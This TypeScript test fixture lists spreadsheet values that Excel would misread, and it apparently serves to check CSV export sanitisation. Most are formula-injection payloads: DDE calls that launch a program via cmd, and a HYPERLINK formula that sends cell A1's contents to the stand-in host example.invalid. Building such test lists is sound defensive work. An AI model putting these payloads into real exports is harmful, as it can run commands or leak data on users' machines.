/**
 * Texts that Excel would take for something else if they were typed: formulas with every sign that begins one (OWASP, "CSV
 * Injection"), the full-width forms that a Japanese Excel reads alike, calls of other programs (DDE), links, and what becomes
 * a number, a date or an error value.
 */
export const hostileTexts: readonly string[] = [
  "=1+1",
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://example.invalid/?x="&A1,"開く")',
  '=WEBSERVICE("http://example.invalid/")',
  "+1+1",
  "-1+1",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "＝1+1",
  "＋1",
  "－1＋1",
  "＠SUM(1)",
  "−1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "　=1+1",
  "'=1+1",
  "''",
  "{=1+1}",
  "#REF!",
  "#N/A",
  "TRUE",
  "100%",
  "12/10",
  "令和5年4月1日",
  "(1)",
  "1e9",
  "０１２",
];
